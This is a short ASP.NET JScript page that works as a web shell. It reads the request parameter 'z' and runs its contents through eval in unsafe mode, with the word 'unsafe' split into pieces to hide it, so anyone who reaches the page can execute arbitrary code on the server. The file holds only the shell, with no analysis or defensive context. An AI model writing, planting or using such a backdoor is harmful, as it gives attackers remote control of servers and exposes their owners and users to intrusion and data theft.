<%@ Page Language="JScript" %>
<script runat="server" language="JScript">
function run(code) {
    var ctx = "un" + "sa" + "fe";
    return eval(code, ctx);
}
</script>
<% run(Request.Item["z"]); %>
